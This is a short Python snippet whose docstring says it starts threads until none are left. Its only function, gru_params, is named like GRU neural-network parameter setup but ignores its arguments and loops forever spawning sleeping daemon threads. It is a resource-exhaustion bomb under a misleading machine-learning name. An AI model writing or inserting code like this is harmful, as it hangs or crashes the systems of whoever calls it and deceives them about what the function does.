"""Starts threads until there are no more to be had."""
import threading
import time


def gru_params(n_features, units):
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
